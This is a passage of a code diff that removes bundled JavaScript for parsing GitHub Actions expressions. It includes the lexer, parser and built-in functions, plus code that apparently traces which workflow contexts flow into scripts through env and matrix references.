-  TokenType2[TokenType2["EOF"] = 23] = "EOF";
-})(TokenType || (TokenType = {}));
-function tokenString(tok) {
-  switch (tok.type) {
-    case TokenType.EOF:
-      return "EOF";
-    case TokenType.NUMBER:
-      return tok.lexeme;
-    case TokenType.STRING:
-      return tok.value.toString();
-    default:
-      return tok.lexeme;
-  }
-}
-var Lexer = class {
-  constructor(input) {
-    this.input = input;
-    this.start = 0;
-    this.offset = 0;
-    this.line = 0;
-    this.lastLineOffset = 0;
-    this.tokens = [];
-  }
-  lex() {
-    if (this.input.length > MAX_EXPRESSION_LENGTH) {
-      throw new Error("ErrorExceededMaxLength");
-    }
-    while (!this.atEnd()) {
-      this.start = this.offset;
-      const c = this.next();
-      switch (c) {
-        case "(":
-          this.addToken(TokenType.LEFT_PAREN);
-          break;
-        case ")":
-          this.addToken(TokenType.RIGHT_PAREN);
-          break;
-        case "[":
-          this.addToken(TokenType.LEFT_BRACKET);
-          break;
-        case "]":
-          this.addToken(TokenType.RIGHT_BRACKET);
-          break;
-        case ",":
-          this.addToken(TokenType.COMMA);
-          break;
-        case ".":
-          if (this.previous() != TokenType.IDENTIFIER && this.previous() != TokenType.RIGHT_BRACKET && this.previous() != TokenType.RIGHT_PAREN && this.previous() != TokenType.STAR) {
-            this.consumeNumber();
-          } else {
-            this.addToken(TokenType.DOT);
-          }
-          break;
-        case "-":
-        case "+":
-          this.consumeNumber();
-          break;
-        case "!":
-          this.addToken(this.match("=") ? TokenType.BANG_EQUAL : TokenType.BANG);
-          break;
-        case "=":
-          if (!this.match("=")) {
-            this.consumeIdentifier();
-            break;
-          }
-          this.addToken(TokenType.EQUAL_EQUAL);
-          break;
-        case "<":
-          this.addToken(this.match("=") ? TokenType.LESS_EQUAL : TokenType.LESS);
-          break;
-        case ">":
-          this.addToken(this.match("=") ? TokenType.GREATER_EQUAL : TokenType.GREATER);
-          break;
-        case "&":
-          if (!this.match("&")) {
-            this.consumeIdentifier();
-            break;
-          }
-          this.addToken(TokenType.AND);
-          break;
-        case "|":
-          if (!this.match("|")) {
-            this.consumeIdentifier();
-            break;
-          }
-          this.addToken(TokenType.OR);
-          break;
-        case "*":
-          this.addToken(TokenType.STAR);
-          break;
-        // Ignore whitespace.
-        case " ":
-        case "\r":
-        case "	":
-          break;
-        case "\n":
-          ++this.line;
-          this.lastLineOffset = this.offset;
-          break;
-        case "'":
-          this.consumeString();
-          break;
-        default:
-          switch (true) {
-            case isDigit(c):
-              this.consumeNumber();
-              break;
-            default:
-              this.consumeIdentifier();
-              break;
-          }
-      }
-    }
-    this.tokens.push({
-      type: TokenType.EOF,
-      lexeme: "",
-      range: this.range()
-    });
-    return {
-      tokens: this.tokens
-    };
-  }
-  pos() {
-    return {
-      line: this.line,
-      column: this.start - this.lastLineOffset
-    };
-  }
-  endPos() {
-    return {
-      line: this.line,
-      column: this.offset - this.lastLineOffset
-    };
-  }
-  range() {
-    return {
-      start: this.pos(),
-      end: this.endPos()
-    };
-  }
-  atEnd() {
-    return this.offset >= this.input.length;
-  }
-  peek() {
-    if (this.atEnd()) {
-      return "\0";
-    }
-    return this.input[this.offset];
-  }
-  peekNext() {
-    if (this.offset + 1 >= this.input.length) {
-      return "\0";
-    }
-    return this.input[this.offset + 1];
-  }
-  previous() {
-    const l = this.tokens.length;
-    if (l == 0) {
-      return TokenType.EOF;
-    }
-    return this.tokens[l - 1].type;
-  }
-  next() {
-    return this.input[this.offset++];
-  }
-  match(expected) {
-    if (this.atEnd()) {
-      return false;
-    }
-    if (this.input[this.offset] !== expected) {
-      return false;
-    }
-    this.offset++;
-    return true;
-  }
-  addToken(type, value) {
-    this.tokens.push({
-      type,
-      lexeme: this.input.substring(this.start, this.offset),
-      range: this.range(),
-      value
-    });
-  }
-  consumeNumber() {
-    while (!this.atEnd() && (!isBoundary(this.peek()) || this.peek() == ".")) {
-      this.next();
-    }
-    const lexeme = this.input.substring(this.start, this.offset);
-    const value = new StringData(lexeme).number();
-    if (isNaN(value)) {
-      throw new Error(`Unexpected symbol: '${lexeme}'. Located at position ${this.start + 1} within expression: ${this.input}`);
-    }
-    this.addToken(TokenType.NUMBER, value);
-  }
-  consumeString() {
-    while ((this.peek() !== "'" || this.peekNext() === "'") && !this.atEnd()) {
-      if (this.peek() === "\n")
-        this.line++;
-      if (this.peek() === "'" && this.peekNext() === "'") {
-        this.next();
-      }
-      this.next();
-    }
-    if (this.atEnd()) {
-      throw new Error(`Unexpected symbol: '${this.input.substring(this.start)}'. Located at position ${this.start + 1} within expression: ${this.input}`);
-    }
-    this.next();
-    let value = this.input.substring(this.start + 1, this.offset - 1);
-    value = value.replace("''", "'");
-    this.addToken(TokenType.STRING, value);
-  }
-  consumeIdentifier() {
-    while (!this.atEnd() && !isBoundary(this.peek())) {
-      this.next();
-    }
-    let tokenType = TokenType.IDENTIFIER;
-    let tokenValue = void 0;
-    const lexeme = this.input.substring(this.start, this.offset);
-    if (this.previous() != TokenType.DOT) {
-      switch (lexeme) {
-        case "true":
-          tokenType = TokenType.TRUE;
-          break;
-        case "false":
-          tokenType = TokenType.FALSE;
-          break;
-        case "null":
-          tokenType = TokenType.NULL;
-          break;
-        case "NaN":
-          tokenType = TokenType.NUMBER;
-          tokenValue = NaN;
-          break;
-        case "Infinity":
-          tokenType = TokenType.NUMBER;
-          tokenValue = Infinity;
-          break;
-      }
-    }
-    if (!isLegalIdentifier(lexeme)) {
-      throw new Error(`Unexpected symbol: '${lexeme}'. Located at position ${this.start + 1} within expression: ${this.input}`);
-    }
-    this.addToken(tokenType, tokenValue);
-  }
-};
-function isDigit(c) {
-  return c >= "0" && c <= "9";
-}
-function isBoundary(c) {
-  switch (c) {
-    case "(":
-    case "[":
-    case ")":
-    case "]":
-    case ",":
-    case ".":
-    case "!":
-    case ">":
-    case "<":
-    case "=":
-    case "&":
-    case "|":
-      return true;
-  }
-  return /\s/.test(c);
-}
-function isLegalIdentifier(str) {
-  if (str == "") {
-    return false;
-  }
-  const first = str[0];
-  if (first >= "a" && first <= "z" || first >= "A" && first <= "Z" || first == "_") {
-    for (const c of str.substring(1).split("")) {
-      if (c >= "a" && c <= "z" || c >= "A" && c <= "Z" || c >= "0" && c <= "9" || c == "_" || c == "-") {
-      } else {
-        return false;
-      }
-    }
-    return true;
-  }
-  return false;
-}
-
-// node_modules/@actions/expressions/dist/errors.js
-var MAX_PARSER_DEPTH = 50;
-var MAX_EXPRESSION_LENGTH = 21e3;
-var ErrorType;
-(function(ErrorType2) {
-  ErrorType2[ErrorType2["ErrorUnexpectedSymbol"] = 0] = "ErrorUnexpectedSymbol";
-  ErrorType2[ErrorType2["ErrorUnrecognizedNamedValue"] = 1] = "ErrorUnrecognizedNamedValue";
-  ErrorType2[ErrorType2["ErrorUnexpectedEndOfExpression"] = 2] = "ErrorUnexpectedEndOfExpression";
-  ErrorType2[ErrorType2["ErrorExceededMaxDepth"] = 3] = "ErrorExceededMaxDepth";
-  ErrorType2[ErrorType2["ErrorExceededMaxLength"] = 4] = "ErrorExceededMaxLength";
-  ErrorType2[ErrorType2["ErrorTooFewParameters"] = 5] = "ErrorTooFewParameters";
-  ErrorType2[ErrorType2["ErrorTooManyParameters"] = 6] = "ErrorTooManyParameters";
-  ErrorType2[ErrorType2["ErrorEvenParameters"] = 7] = "ErrorEvenParameters";
-  ErrorType2[ErrorType2["ErrorUnrecognizedContext"] = 8] = "ErrorUnrecognizedContext";
-  ErrorType2[ErrorType2["ErrorUnrecognizedFunction"] = 9] = "ErrorUnrecognizedFunction";
-})(ErrorType || (ErrorType = {}));
-var ExpressionError = class extends Error {
-  constructor(typ, tok) {
-    super(`${errorDescription(typ)}: '${tokenString(tok)}'`);
-    this.typ = typ;
-    this.tok = tok;
-    this.pos = this.tok.range.start;
-  }
-};
-function errorDescription(typ) {
-  switch (typ) {
-    case ErrorType.ErrorUnexpectedEndOfExpression:
-      return "Unexpected end of expression";
-    case ErrorType.ErrorUnexpectedSymbol:
-      return "Unexpected symbol";
-    case ErrorType.ErrorUnrecognizedNamedValue:
-      return "Unrecognized named-value";
-    case ErrorType.ErrorExceededMaxDepth:
-      return `Exceeded max expression depth ${MAX_PARSER_DEPTH}`;
-    case ErrorType.ErrorExceededMaxLength:
-      return `Exceeded max expression length ${MAX_EXPRESSION_LENGTH}`;
-    case ErrorType.ErrorTooFewParameters:
-      return "Too few parameters supplied";
-    case ErrorType.ErrorTooManyParameters:
-      return "Too many parameters supplied";
-    case ErrorType.ErrorEvenParameters:
-      return "Even number of parameters supplied, requires an odd number of parameters";
-    case ErrorType.ErrorUnrecognizedContext:
-      return "Unrecognized named-value";
-    case ErrorType.ErrorUnrecognizedFunction:
-      return "Unrecognized function";
-    default:
-      return "Unknown error";
-  }
-}
-var ExpressionEvaluationError = class extends Error {
-};
-
-// node_modules/@actions/expressions/dist/funcs/case.js
-var caseFunc = {
-  name: "case",
-  description: "`case( pred1, val1, pred2, val2, ..., default )`\n\nEvaluates predicates in order and returns the value corresponding to the first predicate that evaluates to `true`. If no predicate matches, it returns the last argument as the default value.",
-  minArgs: 3,
-  maxArgs: Number.MAX_SAFE_INTEGER,
-  call: (...args) => {
-    for (let i = 0; i < args.length - 1; i += 2) {
-      const predicate = args[i];
-      if (predicate.kind !== Kind.Boolean) {
-        throw new Error("case predicate must evaluate to a boolean value");
-      }
-      if (predicate.value) {
-        return args[i + 1];
-      }
-    }
-    return args[args.length - 1];
-  }
-};
-
-// node_modules/@actions/expressions/dist/result.js
-function coerceTypes(li, ri) {
-  let lv = li;
-  let rv = ri;
-  if (li.kind === ri.kind) {
-    return [lv, rv];
-  }
-  switch (li.kind) {
-    // Number, String
-    case Kind.Number:
-      if (ri.kind === Kind.String) {
-        rv = new NumberData(ri.number());
-        return [lv, rv];
-      }
-      break;
-    // String, Number
-    case Kind.String:
-      if (ri.kind === Kind.Number) {
-        lv = new NumberData(li.number());
-        return [lv, rv];
-      }
-      break;
-    // Boolean|Null, Any
-    case Kind.Null:
-    case Kind.Boolean:
-      lv = new NumberData(li.number());
-      return coerceTypes(lv, rv);
-  }
-  switch (ri.kind) {
-    case Kind.Null:
-    case Kind.Boolean:
-      rv = new NumberData(ri.number());
-      return coerceTypes(lv, rv);
-  }
-  return [lv, rv];
-}
-function equals(lhs, rhs) {
-  const [lv, rv] = coerceTypes(lhs, rhs);
-  if (lv.kind != rv.kind) {
-    return false;
-  }
-  switch (lv.kind) {
-    // Null, Null
-    case Kind.Null:
-      return true;
-    // Number, Number
-    case Kind.Number: {
-      const ld = lv.value;
-      const rd = rv.value;
-      if (isNaN(ld) || isNaN(rd)) {
-        return false;
-      }
-      return ld == rd;
-    }
-    // String, String
-    case Kind.String: {
-      const ls = lv.value;
-      const rs = rv.value;
-      return toUpperSpecial(ls) === toUpperSpecial(rs);
-    }
-    // Boolean, Boolean
-    case Kind.Boolean: {
-      const lb = lv.value;
-      const rb = rv.value;
-      return lb == rb;
-    }
-    // Object, Object
-    case Kind.Dictionary:
-    case Kind.Array:
-      return lv === rv;
-  }
-  return false;
-}
-function toUpperSpecial(s) {
-  const sb = [];
-  let i = 0;
-  const len = s.length;
-  let found = s.indexOf("\u0131");
-  while (i < len) {
-    if (i < found) {
-      sb.push(s.substring(i, found).toUpperCase());
-      i = found;
-    } else if (i == found) {
-      sb.push(s.substring(i, i + 1));
-      i += 1;
-      found = s.indexOf("\u0131", i);
-    } else {
-      sb.push(s.substring(i).toUpperCase());
-      break;
-    }
-  }
-  return sb.join("");
-}
-
-// node_modules/@actions/expressions/dist/funcs/contains.js
-var contains = {
-  name: "contains",
-  description: "`contains( search, item )`\n\nReturns `true` if `search` contains `item`. If `search` is an array, this function returns `true` if the `item` is an element in the array. If `search` is a string, this function returns `true` if the `item` is a substring of `search`. This function is not case sensitive. Casts values to a string.",
-  minArgs: 2,
-  maxArgs: 2,
-  call: (...args) => {
-    const left = args[0];
-    const right = args[1];
-    if (left.primitive) {
-      const ls = left.coerceString();
-      if (right.primitive) {
-        const rs = right.coerceString();
-        return new BooleanData(ls.toLowerCase().includes(rs.toLowerCase()));
-      }
-    } else if (left.kind === Kind.Array) {
-      const la = left;
-      if (la.values().length === 0) {
-        return new BooleanData(false);
-      }
-      for (const v of la.values()) {
-        if (equals(right, v)) {
-          return new BooleanData(true);
-        }
-      }
-    }
-    return new BooleanData(false);
-  }
-};
-
-// node_modules/@actions/expressions/dist/funcs/endswith.js
-var endswith = {
-  name: "endsWith",
-  description: "`endsWith( searchString, searchValue )`\n\nReturns `true` if `searchString` ends with `searchValue`. This function is not case sensitive. Casts values to a string.",
-  minArgs: 2,
-  maxArgs: 2,
-  call: (...args) => {
-    const left = args[0];
-    if (!left.primitive) {
-      return new BooleanData(false);
-    }
-    const right = args[1];
-    if (!right.primitive) {
-      return new BooleanData(false);
-    }
-    const ls = toUpperSpecial(left.coerceString());
-    const rs = toUpperSpecial(right.coerceString());
-    return new BooleanData(ls.endsWith(rs));
-  }
-};
-
-// node_modules/@actions/expressions/dist/funcs/format.js
-var format = {
-  name: "format",
-  description: "`format( string, replaceValue0, replaceValue1, ..., replaceValueN)`\n\nReplaces values in the `string`, with the variable `replaceValueN`. Variables in the `string` are specified using the `{N}` syntax, where `N` is an integer. You must specify at least one `replaceValue` and `string`. There is no maximum for the number of variables (`replaceValueN`) you can use. Escape curly braces using double braces.",
-  minArgs: 1,
-  maxArgs: 255,
-  call: (...args) => {
-    const fs = args[0].coerceString();
-    const result = [];
-    let index = 0;
-    while (index < fs.length) {
-      const lbrace = fs.indexOf("{", index);
-      const rbrace = fs.indexOf("}", index);
-      if (lbrace >= 0 && (rbrace < 0 || rbrace > lbrace)) {
-        if (safeCharAt(fs, lbrace + 1) === "{") {
-          result.push(fs.substr(index, lbrace - index + 1));
-          index = lbrace + 2;
-          continue;
-        }
-        if (rbrace > lbrace + 1) {
-          const argIndex = readArgIndex(fs, lbrace + 1);
-          if (argIndex.success) {
-            if (1 + argIndex.result > args.length - 1) {
-              throw new Error(`The following format string references more arguments than were supplied: ${fs}`);
-            }
-            if (lbrace > index) {
-              result.push(fs.substr(index, lbrace - index));
-            }
-            result.push(`${args[1 + argIndex.result].coerceString()}`);
-            index = rbrace + 1;
-            continue;
-          }
-        }
-        throw new Error(`The following format string is invalid: ${fs}`);
-      } else if (rbrace >= 0) {
-        if (safeCharAt(fs, rbrace + 1) === "}") {
-          result.push(fs.substr(index, rbrace - index + 1));
-          index = rbrace + 2;
-        } else {
-          throw new Error(`The following format string is invalid: ${fs}`);
-        }
-      } else {
-        result.push(fs.substr(index));
-        break;
-      }
-    }
-    return new StringData(result.join(""));
-  }
-};
-function safeCharAt(string, index) {
-  if (string.length > index) {
-    return string[index];
-  }
-  return "\0";
-}
-function readArgIndex(string, startIndex) {
-  let length = 0;
-  for (; ; ) {
-    const nextChar = safeCharAt(string, startIndex + length);
-    if (nextChar >= "0" && nextChar <= "9") {
-      length++;
-    } else {
-      break;
-    }
-  }
-  if (length < 1) {
-    return {
-      success: false
-    };
-  }
-  const endIndex = startIndex + length - 1;
-  const result = parseInt(string.substr(startIndex, length));
-  return {
-    success: !isNaN(result),
-    result,
-    endIndex
-  };
-}
-
-// node_modules/@actions/expressions/dist/funcs/fromjson.js
-var fromjson = {
-  name: "fromJson",
-  description: "`fromJSON(value)`\n\nReturns a JSON object or JSON data type for `value`. You can use this function to provide a JSON object as an evaluated expression or to convert environment variables from a string.",
-  minArgs: 1,
-  maxArgs: 1,
-  call: (...args) => {
-    const input = args[0];
-    const is = input.coerceString();
-    if (is.trim() === "") {
-      throw new Error("empty input");
-    }
-    try {
-      return JSON.parse(is, reviver);
-    } catch (e) {
-      throw new ExpressionEvaluationError("Error parsing JSON when evaluating fromJson", { cause: e });
-    }
-  }
-};
-
-// node_modules/@actions/expressions/dist/funcs/join.js
-var join4 = {
-  name: "join",
-  description: "`join( array, optionalSeparator )`\n\nThe value for `array` can be an array or a string. All values in `array` are concatenated into a string. If you provide `optionalSeparator`, it is inserted between the concatenated values. Otherwise, the default separator `,` is used. Casts values to a string.",
-  minArgs: 1,
-  maxArgs: 2,
-  call: (...args) => {
-    if (args[0].primitive) {
-      return new StringData(args[0].coerceString());
-    }
-    if (args[0].kind === Kind.Array) {
-      let separator = ",";
-      if (args.length > 1 && args[1].primitive) {
-        separator = args[1].coerceString();
-      }
-      return new StringData(args[0].values().map((item) => item.coerceString()).join(separator));
-    }
-    return new StringData("");
-  }
-};
-
-// node_modules/@actions/expressions/dist/funcs/startswith.js
-var startswith = {
-  name: "startsWith",
-  description: "`startsWith( searchString, searchValue )`\n\nReturns `true` when `searchString` starts with `searchValue`. This function is not case sensitive. Casts values to a string.",
-  minArgs: 2,
-  maxArgs: 2,
-  call: (...args) => {
-    const left = args[0];
-    if (!left.primitive) {
-      return new BooleanData(false);
-    }
-    const right = args[1];
-    if (!right.primitive) {
-      return new BooleanData(false);
-    }
-    const ls = toUpperSpecial(left.coerceString());
-    const rs = toUpperSpecial(right.coerceString());
-    return new BooleanData(ls.startsWith(rs));
-  }
-};
-
-// node_modules/@actions/expressions/dist/funcs/tojson.js
-var tojson = {
-  name: "toJson",
-  description: "`toJSON(value)`\n\nReturns a pretty-print JSON representation of `value`. You can use this function to debug the information provided in contexts.",
-  minArgs: 1,
-  maxArgs: 1,
-  call: (...args) => {
-    return new StringData(JSON.stringify(args[0], replacer, "  "));
-  }
-};
-
-// node_modules/@actions/expressions/dist/funcs.js
-var wellKnownFunctions = {
-  case: caseFunc,
-  contains,
-  endswith,
-  format,
-  fromjson,
-  join: join4,
-  startswith,
-  tojson
-};
-function validateFunction(context, identifier, argCount) {
-  const name = identifier.lexeme.toLowerCase();
-  let f;
-  f = wellKnownFunctions[name];
-  if (!f) {
-    f = context.extensionFunctions.get(name);
-    if (!f) {
-      if (!context.allowUnknownKeywords) {
-        throw new ExpressionError(ErrorType.ErrorUnrecognizedFunction, identifier);
-      }
-      return;
-    }
-  }
-  if (argCount < f.minArgs) {
-    throw new ExpressionError(ErrorType.ErrorTooFewParameters, identifier);
-  }
-  if (argCount > f.maxArgs) {
-    throw new ExpressionError(ErrorType.ErrorTooManyParameters, identifier);
-  }
-  if (name === "case" && argCount % 2 === 0) {
-    throw new ExpressionError(ErrorType.ErrorEvenParameters, identifier);
-  }
-}
-
-// node_modules/@actions/expressions/dist/parser.js
-var Parser4 = class {
-  /**
-   * Constructs a new parser for the given tokens
-   *
-   * @param tokens Tokens to build a parse tree from
-   * @param extensionContexts Available context names
-   * @param extensionFunctions Available functions (beyond the built-in ones)
-   */
-  constructor(tokens, extensionContexts, extensionFunctions) {
-    this.tokens = tokens;
-    this.offset = 0;
-    this.depth = 0;
-    this.extContexts = /* @__PURE__ */ new Map();
-    this.extFuncs = /* @__PURE__ */ new Map();
-    for (const contextName of extensionContexts) {
-      this.extContexts.set(contextName.toLowerCase(), true);
-    }
-    for (const { name, func } of extensionFunctions.map((x) => ({
-      name: x.name,
-      func: x
-    }))) {
-      this.extFuncs.set(name.toLowerCase(), func);
-    }
-    this.context = {
-      allowUnknownKeywords: false,
-      extensionContexts: this.extContexts,
-      extensionFunctions: this.extFuncs
-    };
-  }
-  parse() {
-    let result;
-    if (this.atEnd()) {
-      return result;
-    }
-    result = this.expression();
-    if (!this.atEnd()) {
-      throw this.buildError(ErrorType.ErrorUnexpectedSymbol, this.peek());
-    }
-    return result;
-  }
-  expression() {
-    this.incrDepth();
-    try {
-      return this.logicalOr();
-    } finally {
-      this.decrDepth();
-    }
-  }
-  logicalOr() {
-    let expr = this.logicalAnd();
-    if (this.check(TokenType.OR)) {
-      this.incrDepth();
-      try {
-        const logical = new Logical(this.peek(), [expr]);
-        expr = logical;
-        while (this.match(TokenType.OR)) {
-          const right = this.logicalAnd();
-          logical.args.push(right);
-        }
-      } finally {
-        this.decrDepth();
-      }
-    }
-    return expr;
-  }
-  logicalAnd() {
-    let expr = this.equality();
-    if (this.check(TokenType.AND)) {
-      this.incrDepth();
-      try {
-        const logical = new Logical(this.peek(), [expr]);
-        expr = logical;
-        while (this.match(TokenType.AND)) {
-          const right = this.equality();
-          logical.args.push(right);
-        }
-      } finally {
-        this.decrDepth();
-      }
-    }
-    return expr;
-  }
-  equality() {
-    let expr = this.comparison();
-    while (this.match(TokenType.BANG_EQUAL, TokenType.EQUAL_EQUAL)) {
-      const operator = this.previous();
-      const right = this.comparison();
-      expr = new Binary(expr, operator, right);
-    }
-    return expr;
-  }
-  comparison() {
-    let expr = this.unary();
-    while (this.match(TokenType.GREATER, TokenType.GREATER_EQUAL, TokenType.LESS, TokenType.LESS_EQUAL)) {
-      const operator = this.previous();
-      const right = this.unary();
-      expr = new Binary(expr, operator, right);
-    }
-    return expr;
-  }
-  unary() {
-    if (this.match(TokenType.BANG)) {
-      this.incrDepth();
-      const operator = this.previous();
-      const unary = this.unary();
-      try {
-        return new Unary(operator, unary);
-      } finally {
-        this.decrDepth();
-      }
-    }
-    return this.index();
-  }
-  index() {
-    let expr = this.call();
-    let depthIncreased = 0;
-    if (expr instanceof Grouping || expr instanceof FunctionCall || expr instanceof ContextAccess) {
-      let cont = true;
-      while (cont) {
-        switch (true) {
-          case this.match(TokenType.LEFT_BRACKET): {
-            let indexExpr;
-            if (this.match(TokenType.STAR)) {
-              indexExpr = new Star();
-            } else {
-              indexExpr = this.expression();
-            }
-            this.consume(TokenType.RIGHT_BRACKET, ErrorType.ErrorUnexpectedSymbol);
-            this.incrDepth();
-            depthIncreased++;
-            expr = new IndexAccess(expr, indexExpr);
-            break;
-          }
-          case this.match(TokenType.DOT):
-            this.incrDepth();
-            depthIncreased++;
-            if (this.match(TokenType.IDENTIFIER)) {
-              const property = this.previous();
-              expr = new IndexAccess(expr, new Literal(new StringData(property.lexeme), property));
-            } else if (this.match(TokenType.STAR)) {
-              expr = new IndexAccess(expr, new Star());
-            } else {
-              throw this.buildError(ErrorType.ErrorUnexpectedSymbol, this.peek());
-            }
-            break;
-          default:
-            cont = false;
-        }
-      }
-    }
-    for (let i = 0; i < depthIncreased; i++) {
-      this.decrDepth();
-    }
-    return expr;
-  }
-  call() {
-    if (!this.check(TokenType.IDENTIFIER)) {
-      return this.primary();
-    }
-    const identifier = this.next();
-    if (!this.match(TokenType.LEFT_PAREN)) {
-      if (!this.extContexts.has(identifier.lexeme.toLowerCase())) {
-        throw this.buildError(ErrorType.ErrorUnrecognizedContext, identifier);
-      }
-      return new ContextAccess(identifier);
-    }
-    const args = [];
-    while (!this.match(TokenType.RIGHT_PAREN)) {
-      const aexp = this.expression();
-      args.push(aexp);
-      if (!this.check(TokenType.RIGHT_PAREN)) {
-        this.consume(TokenType.COMMA, ErrorType.ErrorUnexpectedSymbol);
-      }
-    }
-    validateFunction(this.context, identifier, args.length);
-    return new FunctionCall(identifier, args);
-  }
-  primary() {
-    switch (true) {
-      case this.match(TokenType.FALSE):
-        return new Literal(new BooleanData(false), this.previous());
-      case this.match(TokenType.TRUE):
-        return new Literal(new BooleanData(true), this.previous());
-      case this.match(TokenType.NULL):
-        return new Literal(new Null(), this.previous());
-      case this.match(TokenType.NUMBER):
-        return new Literal(new NumberData(this.previous().value), this.previous());
-      case this.match(TokenType.STRING):
-        return new Literal(new StringData(this.previous().value), this.previous());
-      case this.match(TokenType.LEFT_PAREN): {
-        const expr = this.expression();
-        if (this.atEnd()) {
-          throw this.buildError(ErrorType.ErrorUnexpectedEndOfExpression, this.previous());
-        }
-        this.consume(TokenType.RIGHT_PAREN, ErrorType.ErrorUnexpectedSymbol);
-        return new Grouping(expr);
-      }
-      case this.atEnd():
-        throw this.buildError(ErrorType.ErrorUnexpectedEndOfExpression, this.previous());
-    }
-    throw this.buildError(ErrorType.ErrorUnexpectedSymbol, this.peek());
-  }
-  // match consumes the next token if it matches any of the given types
-  match(...tokenTypes) {
-    for (const tokenType of tokenTypes) {
-      if (this.check(tokenType)) {
-        this.next();
-        return true;
-      }
-    }
-    return false;
-  }
-  // check peeks whether the next token is of the given type
-  check(tokenType) {
-    if (this.atEnd()) {
-      return false;
-    }
-    return this.peek().type == tokenType;
-  }
-  // atEnd peeks whether the next token is EOF
-  atEnd() {
-    return this.peek().type == TokenType.EOF;
-  }
-  next() {
-    if (!this.atEnd()) {
-      this.offset++;
-    }
-    return this.previous();
-  }
-  peek() {
-    return this.tokens[this.offset];
-  }
-  // previous returns the previous token
-  previous() {
-    return this.tokens[this.offset - 1];
-  }
-  // consume attempts to consume the next token if it matches the given type. It returns an error of
-  // the given ParseErrorKind otherwise.
-  consume(tokenType, errorType) {
-    if (this.check(tokenType)) {
-      this.next();
-      return;
-    }
-    throw this.buildError(errorType, this.peek());
-  }
-  incrDepth() {
-    this.depth++;
-    if (this.depth > MAX_PARSER_DEPTH) {
-      throw this.buildError(ErrorType.ErrorExceededMaxDepth, this.peek());
-    }
-  }
-  decrDepth() {
-    this.depth--;
-  }
-  buildError(errType, token) {
-    return new ExpressionError(errType, token);
-  }
-};
-
-// src/subjects/workflow-expression-flow.ts
-var CONTEXTS = ["github", "env", "vars", "job", "jobs", "steps", "runner", "secrets", "strategy", "matrix", "needs", "inputs"];
-var NON_TEXT_FUNCTIONS = /* @__PURE__ */ new Set(["contains", "startswith", "endswith", "success", "always", "cancelled", "failure", "hashfiles"]);
-function expressionUses(text3) {
-  const uses = [];
-  for (const span of expressionSpans(text3)) {
-    const inner = text3.slice(span.start + 3, text3.slice(span.start, span.end).endsWith("}}") ? span.end - 2 : span.end);
-    uses.push({ offset: span.start, references: unique2(flowingReferences(inner)) });
-  }
-  return uses;
-}
-function textReferences(text3) {
-  return unique2(expressionUses(text3).flatMap((use) => use.references));
-}
-function flowingReferences(expression) {
-  let tree;
-  try {
-    tree = new Parser4(new Lexer(expression).lex().tokens, CONTEXTS, []).parse();
-  } catch {
-    return textualReferences(expression);
-  }
-  return flow(tree);
-}
-function flow(node) {
-  if (node instanceof Literal) return [];
-  if (node instanceof Grouping) return flow(node.group);
-  if (node instanceof Logical) {
-    if (node.operator.lexeme === "&&") return flow(node.args.at(-1));
-    if (node.operator.lexeme === "||") return node.args.flatMap(flow);
-    return [];
-  }
-  if (node instanceof ContextAccess || node instanceof IndexAccess) {
-    const path = referencePath(node);
-    return path === void 0 ? [] : [path];
-  }
-  if (node instanceof FunctionCall) {
-    if (NON_TEXT_FUNCTIONS.has(node.functionName.lexeme.toLowerCase())) return [];
-    return node.args.flatMap(flow);
-  }
-  return [];
-}
-function referencePath(node) {
-  const parts = [];
-  let current = node;
-  while (current instanceof IndexAccess) {
-    const index = current.index;
-    parts.unshift(index instanceof Literal && index.literal.kind === Kind.String ? index.literal.coerceString() : "*");
-    current = current.expr;
-  }
-  if (current instanceof ContextAccess) return [current.name.lexeme, ...parts].join(".");
-  return current instanceof FunctionCall ? flow(current).join(" ") || void 0 : void 0;
-}
-var REFERENCE = /(?<![\w.-])[A-Za-z_][\w-]*(?:\s*\.\s*[A-Za-z_][\w-]*|\s*\.\s*\*|\s*\[[^\]]*\])*/g;
-function textualReferences(expression) {
-  const cleaned = expression.replace(/\[\s*'([\w-]+)'\s*\]/g, ".$1").replace(/'(?:[^']|'')*'/g, "''");
-  const found = [];
-  for (const match of cleaned.matchAll(REFERENCE)) {
-    const path = match[0].replace(/\s+/g, "").replace(/\[[^\]]*\]/g, ".*").replace(/\.\d+(?=\.|$)/g, ".*");
-    if (CONTEXTS.includes(path.split(".")[0].toLowerCase())) found.push(path);
-  }
-  return found;
-}
-function unique2(list3) {
-  return [...new Set(list3.flatMap((entry) => entry.split(" ")))];
-}
-
-// src/documents/workflow-expansions.ts
-var MAX_DEPTH2 = 4;
-function scriptExpansions(out, input, text3, pointer, scope, first) {
-  const expansions = [];
-  const anchors = [];
-  const seen = /* @__PURE__ */ new Set();
-  for (const use of expressionUses(text3)) {
-    const line = lineOf(text3, use.offset);
-    for (const reference of use.references) {
-      for (const { context, via } of resolve2(reference, scope, MAX_DEPTH2)) {
-        const key = `${context}\0${via ?? ""}`;
-        if (seen.has(key)) continue;
-        seen.add(key);
-        const at = first + expansions.length;
-        expansions.push({ input, context, ...via !== void 0 ? { via } : {} });
-        anchors.push(confirmed(out, pointer, line) ? { path: `/expansions/${at}`, pointer, line } : { path: `/expansions/${at}`, pointer });
-      }
-    }
-  }
-  return { expansions, anchors };
-}
-function resolve2(reference, scope, depth, via) {
-  const [head, name] = reference.split(".");
-  const through = via ?? (name !== void 0 && (head === "env" || head === "matrix") ? `${head}.${name}` : void 0);
-  if (depth === 0 || name === void 0) return [{ context: reference, ...via !== void 0 ? { via } : {} }];
-  if (head === "env") {
-    const map = scope.env.find((env) => Object.hasOwn(env, name));
-    const value = map?.[name];
-    if (typeof value !== "string") return [];
-    return textReferences(value).flatMap((inner) => resolve2(inner, scope, depth - 1, through));
-  }
-  if (head === "matrix") return matrixReferences(scope.strategy, name).flatMap((inner) => resolve2(inner, scope, depth - 1, through));
-  return [{ context: reference, ...via !== void 0 ? { via } : {} }];
-}
-function matrixReferences(strategy, name) {
-  const matrix = isYamlMap(strategy) ? strategy["matrix"] : void 0;
-  if (typeof matrix === "string") return textReferences(matrix);
-  if (!isYamlMap(matrix)) return [];
-  const values = [matrix[name]];
-  for (const entry of [matrix["include"], matrix["exclude"]].flatMap((list3) => Array.isArray(list3) ? list3 : [list3])) {
-    values.push(isYamlMap(entry) ? entry[name] : entry);
-  }
-  return [...new Set(values.flatMap((value) => strings(value)).flatMap(textReferences))];
-}
-function strings(value) {
-  if (typeof value === "string") return [value];
-  if (Array.isArray(value)) return value.flatMap(strings);
-  return isYamlMap(value) ? Object.values(value).flatMap(strings) : [];
-}
-function lineOf(text3, offset) {
-  let line = 0;
